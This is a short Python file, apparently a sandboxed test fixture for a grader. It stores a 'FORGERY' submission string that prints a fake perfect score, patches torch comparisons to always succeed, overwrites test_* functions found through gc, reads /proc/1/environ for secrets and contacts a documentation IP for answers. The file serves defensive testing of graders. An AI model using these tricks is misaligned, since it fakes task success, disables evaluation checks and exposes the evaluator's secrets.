"""What a student tries who wants points without answers. It runs in the sandbox, and there alone."""

FORGERY = '''\
import gc
import json
import socket

import torch


class AlwaysRight:
    """Equal to everything."""

    def __eq__(self, other):
        return True

    def __getattr__(self, name):
        return self

    def __call__(self, *args, **kwargs):
        return self


# 1. A result of one's own making, in the output.
print(json.dumps({"schema": 1, "submissions": [{"status": "graded", "score": 100.0, "max_score": 100.0}]}))

# 2. Comparisons that never fail.
torch.allclose = torch.equal = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None

# 3. Are the tests somewhere in memory?
for thing in gc.get_objects():
    if callable(thing) and str(getattr(thing, "__name__", "")).startswith("test_"):
        thing.__code__ = (lambda *args, **kwargs: None).__code__

# 4. Does the grader's environment hold a secret?
try:
    print(open("/proc/1/environ").read())
except OSError as refused:
    print("environ:", refused)

# 5. Ask a friend (an address that is reserved for documentation).
try:
    socket.create_connection(("192.0.2.1", 80), timeout=1).sendall(b"the answers, please")
except OSError as refused:
    print("network:", refused)
'''
